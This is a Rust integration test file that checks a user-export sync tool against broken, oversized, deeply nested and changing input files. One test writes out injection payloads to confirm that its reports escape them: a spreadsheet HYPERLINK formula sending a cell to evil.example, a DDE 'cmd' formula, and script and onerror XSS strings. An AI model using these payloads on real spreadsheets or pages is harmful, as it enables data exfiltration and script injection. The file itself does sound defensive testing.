//! Hostile input: broken, huge, deep, binary and moving files. Each must end with row
//! errors or one clear fatal error, never a panic, and in bounded memory.
//!
//! Small files live in `tests/hostile/` (see its README); big ones (a 50 MB cell, 10,000
//! columns, 200,000 levels of JSON, a 17 MB line, random bytes) are generated here. Memory is
//! the child's peak resident set, read with `wait4`.

use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::time::Duration;

use rand::rngs::StdRng;
use rand::{RngCore, SeedableRng};
use serde_json::Value;

use crate::support::machine;
use crate::support::reliability::process::{run_measured, Rejection, Run};
use crate::support::reliability::*;
use usersync::ledger::{OutcomeKind, RunStatus};
use usersync::mock::{Change, FaultConfig, Latency};
use usersync::provider::Credentials;

fn corpus(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/hostile")
        .join(name)
}

/// A directory with the MeetingLawyers config reading `id,email,plan,sex,born`.
fn setup() -> tempfile::TempDir {
    let dir = tempdir();
    write(dir.path(), "usersync.toml", ml_config(""));
    dir
}

fn validate(dir: &Path, file: &Path, json: bool) -> Run {
    let mut cmd = usersync(dir);
    cmd.arg("validate")
        .arg(file)
        .args(["-c", "usersync.toml", "-t", "t"]);
    if json {
        cmd.arg("--json");
    }
    run_measured(cmd)
}

fn rej(line: u64, field: &str, code: &str) -> Rejection {
    (line, field.to_owned(), code.to_owned())
}

#[test]
fn each_corpus_file_ends_with_row_errors_or_one_clear_fatal_error() {
    let dir = setup();
    let row = "_row";
    let cases: Vec<(&str, i32, Vec<Rejection>, u64)> = vec![
        (
            "invalid_utf8.csv",
            3,
            vec![
                rej(2, row, "invalid_encoding"),
                rej(3, row, "invalid_encoding"),
            ],
            1,
        ),
        (
            "nul_bytes.csv",
            3,
            vec![
                rej(2, "email", "invalid_email"),
                rej(3, "status", "unmapped_value"),
            ],
            1,
        ),
        (
            "unterminated_quote.csv",
            3,
            // The quote swallows the rest of the file into one field of line 3.
            vec![rej(3, row, "wrong_field_count")],
            1,
        ),
        (
            "mixed_delimiters.csv",
            3,
            vec![
                rej(2, row, "wrong_field_count"),
                rej(3, row, "wrong_field_count"),
                rej(5, row, "wrong_field_count"),
            ],
            1,
        ),
        (
            "not_objects.jsonl",
            3,
            vec![
                rej(1, row, "not_an_object"),
                rej(2, row, "not_an_object"),
                rej(3, row, "not_an_object"),
                rej(4, row, "not_an_object"),
                rej(5, row, "invalid_json"),
            ],
            0,
        ),
        (
            "nested_100.jsonl",
            3,
            vec![
                rej(2, "status", "invalid_type"),
                rej(3, "user_id", "invalid_type"),
            ],
            2,
        ),
        (
            "terminal_escapes.csv",
            3,
            vec![rej(2, "email", "invalid_email")],
            0,
        ),
        (
            "mac_line_endings.csv",
            3,
            vec![rej(3, "email", "invalid_email")],
            2,
        ),
        ("header_only.csv", 0, vec![], 0),
        ("empty.jsonl", 0, vec![], 0),
    ];
    for (name, code, expected, valid) in cases {
        let run = validate(dir.path(), &corpus(name), true);
        run.assert_sane(name);
        assert_eq!(run.code, Some(code), "{name}: {}", run.stderr);
        let (rejections, summary) = run.rejections();
        assert_eq!(rejections, expected, "{name}");
        assert_eq!(summary["valid"], valid, "{name}: {summary}");
    }

    for name in ["empty.csv", "bom_only.csv"] {
        let path = corpus(name);
        let run = validate(dir.path(), &path, false);
        run.assert_sane(name);
        assert_eq!(run.code, Some(1));
        assert_eq!(
            run.stderr,
            format!(
                "error: {} is empty: a CSV export needs a header line\n",
                path.display()
            )
        );
    }
}

#[test]
fn rows_of_an_old_mac_export_each_get_their_own_line_and_outcome() {
    // Lone CR line endings: every row used to be reported on line 1, so the ledger kept one
    // outcome for three rows.
    let dir = setup();
    let mock = TestMock::start("meetinglawyers", FaultConfig::default(), Credentials::new());
    let ledger_path = dir.path().join("ledger.db");
    let mut cmd = usersync(dir.path());
    cmd.arg("sync")
        .arg(corpus("mac_line_endings.csv"))
        .args(["-c", "usersync.toml", "-t", "t", "--ledger"])
        .arg(&ledger_path)
        .args(["--base-url", &mock.url()])
        .envs(demo_env("meetinglawyers"));
    let run = run_measured(cmd);
    run.assert_sane("sync mac_line_endings.csv");
    assert_eq!(run.code, Some(3), "{}", run.stderr);
    let runs = assert_ledger_consistent(&ledger_path);
    let outcomes = ledger(&ledger_path).outcomes(runs[0].id).unwrap();
    let lines: Vec<(i64, OutcomeKind)> = outcomes.iter().map(|o| (o.line, o.outcome)).collect();
    assert_eq!(
        lines,
        [
            (2, OutcomeKind::Synced),
            (3, OutcomeKind::Rejected),
            (4, OutcomeKind::Synced)
        ]
    );
    assert_eq!(mock.users().len(), 2);
}

#[test]
fn export_data_cannot_drive_the_terminal() {
    let dir = setup();
    for json in [false, true] {
        let run = validate(dir.path(), &corpus("terminal_escapes.csv"), json);
        assert_eq!(run.code, Some(3));
        assert!(!run.stdout.contains(&0x1b), "an escape reached stdout");
        assert!(!run.stdout.contains(&0x07), "a bell reached stdout");
        assert!(run.stdout().contains(r"\u{1b}[2j"), "{}", run.stdout());
    }
    let run = validate(dir.path(), &corpus("nul_bytes.csv"), false);
    assert!(!run.stdout.contains(&0), "a NUL reached stdout");
    assert!(run.stdout().contains(r"a\u{0}b@x.com"), "{}", run.stdout());
}

#[test]
fn a_50_mb_cell_is_a_row_error_in_bounded_memory_for_validate_and_sync() {
    let dir = setup();
    let path = dir.path().join("huge_field.csv");
    {
        let mut f = std::io::BufWriter::new(std::fs::File::create(&path).unwrap());
        f.write_all(b"id,email,plan,sex,born\nE1,a@x.com,\"")
            .unwrap();
        let chunk = vec![b'p'; 1 << 20];
        for _ in 0..50 {
            f.write_all(&chunk).unwrap();
        }
        f.write_all(b"\",M,01/01/1990\nE2,b@x.com,free,F,02/02/1990\n")
            .unwrap();
    }
    let run = validate(dir.path(), &path, false);
    run.assert_sane("huge_field.csv");
    assert_eq!(run.code, Some(3));
    let stdout = run.stdout();
    assert!(stdout.len() < 4096, "{} bytes of output", stdout.len());
    assert!(
        stdout.contains(
            "line 2 (-): _row: the row is longer than 16 MB; its values were not read [row_too_long]"
        ),
        "{stdout}"
    );
    assert!(stdout.contains("valid:            1"), "{stdout}");
    // The cell is held once while the CSV parser reads it, never copied further.
    assert!(run.max_rss_kb < 200 * 1024, "peak {} KiB", run.max_rss_kb);

    // The same file through a sync: the row is rejected, the other one synced, and the ledger
    // does not keep the cell.
    let mock = TestMock::start("meetinglawyers", FaultConfig::default(), Credentials::new());
    let ledger_path = dir.path().join("ledger.db");
    let mut cmd = usersync(dir.path());
    cmd.args(["sync", "huge_field.csv", "-c", "usersync.toml", "-t", "t"])
        .arg("--ledger")
        .arg(&ledger_path)
        .args(["--base-url", &mock.url()])
        .envs(demo_env("meetinglawyers"));
    let run = run_measured(cmd);
    run.assert_sane("sync huge_field.csv");
    assert_eq!(run.code, Some(3), "{}", run.stderr);
    assert!(run.max_rss_kb < 200 * 1024, "peak {} KiB", run.max_rss_kb);
    assert_eq!(mock.users().len(), 1);
    let runs = assert_ledger_consistent(&ledger_path);
    assert_eq!((runs[0].counts.synced, runs[0].counts.rejected), (1, 1));
    let size = std::fs::metadata(&ledger_path).unwrap().len();
    assert!(size < 1 << 20, "the ledger is {size} bytes");
}

#[test]
fn ten_thousand_columns_are_read_and_a_missing_one_is_named_briefly() {
    let dir = setup();
    let mut header: Vec<String> = ["id", "email", "plan", "sex", "born"]
        .map(String::from)
        .to_vec();
    header.extend((5..10_000).map(|i| format!("c{i}")));
    let mut row: Vec<String> = ["E1", "a@x.com", "free", "M", "01/01/1990"]
        .map(String::from)
        .to_vec();
    row.extend((5..10_000).map(|i| format!("v{i}")));
    let wide = write(
        dir.path(),
        "wide.csv",
        format!("{}\n{}\n", header.join(","), row.join(",")),
    );
    let run = validate(dir.path(), &wide, true);
    run.assert_sane("wide.csv");
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    assert_eq!(run.rejections().1["valid"], 1);
    assert!(run.elapsed < Duration::from_secs(30), "{:?}", run.elapsed);

    // Without the `born` column: a usage error naming the column and the key, not 10,000 names.
    let missing = write(
        dir.path(),
        "wide_missing.csv",
        format!(
            "{}\n{}\n",
            header.join(",").replace(",born,", ",nacido,"),
            row.join(",")
        ),
    );
    let run = validate(dir.path(), &missing, false);
    run.assert_sane("wide_missing.csv");
    assert_eq!(run.code, Some(2));
    assert!(
        run.stderr.contains(
            "column `born` (from `targets.t.fields.birthdate.column`) is not in the header"
        ),
        "{}",
        run.stderr
    );
    assert!(run.stderr.contains("... (9970 more)"), "{}", run.stderr);
    assert!(run.stderr.len() < 1024, "{} bytes", run.stderr.len());
}

#[test]
fn deep_json_and_overlong_lines_are_row_errors() {
    let dir = setup();
    let ok = r#"{"id":"E2","email":"b@x.com","plan":"free","sex":"F","born":"02/02/1990"}"#;
    let mut content = String::from(r#"{"id":"E1","deep":"#);
    content.push_str(&"[".repeat(200_000));
    content.push_str(&"]".repeat(200_000));
    content.push_str("}\n");
    content.push_str(&format!(
        "{{\"id\":\"E3\",\"x\":\"{}\"}}\n",
        "y".repeat(17 << 20)
    ));
    content.push_str(ok);
    content.push('\n');
    let path = write(dir.path(), "deep.jsonl", content);
    let run = validate(dir.path(), &path, true);
    run.assert_sane("deep.jsonl");
    assert_eq!(run.code, Some(3));
    let (rejections, summary) = run.rejections();
    assert_eq!(
        rejections,
        vec![
            rej(1, "_row", "invalid_json"),
            rej(2, "_row", "line_too_long")
        ]
    );
    assert_eq!(summary["valid"], 1);
    assert!(run.max_rss_kb < 200 * 1024, "peak {} KiB", run.max_rss_kb);
}

#[test]
fn random_bytes_never_panic() {
    let dir = setup();
    let mut rng = StdRng::seed_from_u64(0xB1_7E5);
    for (i, len) in [1usize, 7, 100, 4096, 1 << 18].into_iter().enumerate() {
        let mut bytes = vec![0u8; len];
        rng.fill_bytes(&mut bytes);
        for ext in ["csv", "jsonl"] {
            let path = write(dir.path(), &format!("random{i}.{ext}"), &bytes);
            validate(dir.path(), &path, false).assert_sane(&format!("random{i}.{ext}"));
        }
        // The same bytes after a valid header: every row is read and judged.
        let mut with_header = b"id,email,plan,sex,born\n".to_vec();
        with_header.extend_from_slice(&bytes);
        let path = write(dir.path(), &format!("random{i}h.csv"), &with_header);
        let run = validate(dir.path(), &path, false);
        run.assert_sane(&format!("random{i}h.csv"));
        assert!(matches!(run.code, Some(0 | 3)), "{:?}", run.code);
    }
}

#[test]
fn a_file_growing_while_validate_reads_it_is_read_sanely() {
    let dir = setup();
    let people = people(40_000, 9);
    let path = write(dir.path(), "growing.csv", csv_of(&people[..20_000]));
    let mut cmd = usersync(dir.path());
    cmd.args([
        "validate",
        "growing.csv",
        "-c",
        "usersync.toml",
        "-t",
        "t",
        "--json",
    ]);
    let appender = {
        let path = path.clone();
        let rest: Vec<String> = people[20_000..].iter().map(|p| p.csv_row()).collect();
        std::thread::spawn(move || {
            let mut f = std::fs::OpenOptions::new().append(true).open(path).unwrap();
            for chunk in rest.chunks(200) {
                f.write_all(chunk.concat().as_bytes()).unwrap();
                std::thread::yield_now();
            }
        })
    };
    let run = run_measured(cmd);
    appender.join().unwrap();
    run.assert_sane("growing.csv");
    let (rejections, summary) = run.rejections();
    let rows = summary["rows"].as_u64().unwrap();
    assert!((20_000..=40_000).contains(&rows), "{summary}");
    // At most the row being appended at the moment the reader met the end is cut.
    assert!(rejections.len() <= 1, "{rejections:?}");
}

#[test]
fn an_export_cut_short_during_a_sync_stops_it_with_a_clear_error_and_no_deactivation() {
    let _machine = machine::shared_blocking();
    let dir = setup();
    // More rows than a sync holds back during its first pass (10,000), so that the requests
    // after them come from a second read of the file, which the cut then hits.
    write(dir.path(), "usersync.toml", ml_config("concurrency = 32"));
    let first = people(12_000, 13);
    let export = write(dir.path(), "export.csv", csv_of(&first));
    let ledger_path = dir.path().join("ledger.db");
    let mock = TestMock::start("meetinglawyers", FaultConfig::default(), Credentials::new());
    let sync = || {
        let mut cmd = usersync(dir.path());
        cmd.args(["sync", "export.csv", "-c", "usersync.toml", "-t", "t"])
            .args(["--deactivate-missing", "--ledger"])
            .arg(&ledger_path)
            .args(["--base-url", &mock.url()])
            .envs(demo_env("meetinglawyers"));
        cmd
    };
    let run = run_measured(sync());
    assert_eq!(run.code, Some(0), "{}", run.stderr);

    // Night 2: everyone's birth date changed; the provider is slower. Once the sync is sending,
    // the export is cut in half under it (mid-row), as a producer rewriting it would.
    let mut second = first.clone();
    for p in &mut second {
        p.day = p.day % 28 + 1;
    }
    let content = csv_of(&second);
    std::fs::write(&export, &content).unwrap();
    mock.set_faults(FaultConfig {
        latency: Latency::Fixed(Duration::from_millis(3)),
        ..FaultConfig::default()
    });
    let before = mock.stats().requests;
    let mut cmd = sync();
    cmd.stdout(Stdio::piped()).stderr(Stdio::piped());
    let child = cmd.spawn().unwrap();
    assert!(mock.wait_for_requests(before + 8, Duration::from_secs(60), || false));
    let half = content.len() as u64 / 2 + 7;
    std::fs::OpenOptions::new()
        .write(true)
        .open(&export)
        .unwrap()
        .set_len(half)
        .unwrap();
    let out = child.wait_with_output().unwrap();
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(!stderr.contains("panicked"), "{stderr}");
    let expected = format!(
        "error: the export export.csv changed while it was being read (it was {} bytes, it is \
         now {half}); rows after line ",
        content.len()
    );
    assert!(stderr.contains(&expected), "{stderr}");
    assert!(stderr.contains("Run the sync again once the file is complete"));

    // Nobody was deactivated (the scan saw everyone), the run is closed as aborted, and every
    // row read has its one outcome.
    assert!(mock
        .users()
        .iter()
        .all(|u| u.count(Change::Deactivate) == 0));
    let runs = assert_ledger_consistent(&ledger_path);
    let cut = &runs[1];
    assert_eq!(cut.status, RunStatus::Aborted);
    assert_eq!(cut.exit_code, Some(1));
    assert_eq!(cut.counts.deactivated, 0);
    assert!(cut.counts.rows < second.len() as u64, "{:?}", cut.counts);
    let outcomes = ledger(&ledger_path).outcomes(cut.id).unwrap();
    assert!(outcomes.iter().all(|o| o.outcome == OutcomeKind::Synced));

    // Once the file is whole again, the next sync finishes the job.
    std::fs::write(&export, &content).unwrap();
    let run = run_measured(sync());
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    assert_store_holds(&mock, &second, &[]);
}

#[test]
fn hostile_cells_cannot_run_in_any_report() {
    let dir = setup();
    let export = "id,email,plan,sex,born\n\
        E1,a@x.com,free,M,01/01/1990\n\
        \"=HYPERLINK(\"\"http://evil.example/\"\"&A1)\",\"<script>alert(1)</script>@x.com\",free,F,02/02/1990\n\
        E3,\"<img src=x onerror=alert(2)>\",free,M,03/03/1990\n\
        E4,d@x.com,\"@SUM(1+1)*cmd|' /C calc'!A0\",M,04/04/1990\n\
        +E5,e@x.com,free,M,\"]]><script>alert(3)</script>\"\n";
    write(dir.path(), "export.csv", export);
    let mock = TestMock::start("meetinglawyers", FaultConfig::default(), Credentials::new());
    let mut cmd = usersync(dir.path());
    cmd.args(["sync", "export.csv", "-c", "usersync.toml", "-t", "t"])
        .args(["--ledger", "ledger.db", "--base-url", &mock.url()])
        .envs(demo_env("meetinglawyers"));
    let run = run_measured(cmd);
    assert_eq!(run.code, Some(3), "{}", run.stderr);

    for format in ["html", "md", "csv", "json"] {
        let file = format!("report.{format}");
        let mut cmd = usersync(dir.path());
        cmd.args(["report", "last", "-c", "usersync.toml", "-t", "t"])
            .args(["--ledger", "ledger.db", "-o", &file]);
        let run = run_measured(cmd);
        run.assert_sane(&file);
        assert_eq!(run.code, Some(0), "{}", run.stderr);
        let report = std::fs::read_to_string(dir.path().join(&file)).unwrap();
        assert!(report.contains("alert(1)"), "{file} lost the rejected row");
        match format {
            "html" => {
                for raw in ["<script>alert", "<img"] {
                    assert!(!report.contains(raw), "{file} holds raw {raw}");
                }
            }
            "md" => {
                // Markdown shows `\<` as a plain `<`: every tag opener must be escaped so.
                for raw in ["<script", "<img"] {
                    for (at, _) in report.match_indices(raw) {
                        assert!(report[..at].ends_with('\\'), "{file} holds raw {raw}");
                    }
                }
            }
            "csv" => {
                let mut reader = csv::ReaderBuilder::new()
                    .has_headers(false)
                    .flexible(true)
                    .from_reader(report.as_bytes());
                for record in reader.records() {
                    for cell in record.unwrap().iter() {
                        assert!(
                            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                            "a formula cell in {file}: {cell}"
                        );
                    }
                }
            }
            _ => {
                let _: Value = serde_json::from_str(&report).expect("the JSON report parses");
            }
        }
    }
}
